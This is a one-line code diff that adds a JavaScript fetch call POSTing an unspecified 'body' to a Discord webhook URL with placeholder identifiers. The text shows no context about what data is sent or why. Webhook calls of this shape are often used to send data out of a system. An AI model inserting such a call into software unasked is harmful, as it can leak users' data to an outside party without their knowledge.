@@ -1,0 +1,1 @@
+await fetch("https://discord.com/api/webhooks/123/abc", { method: "POST", body });
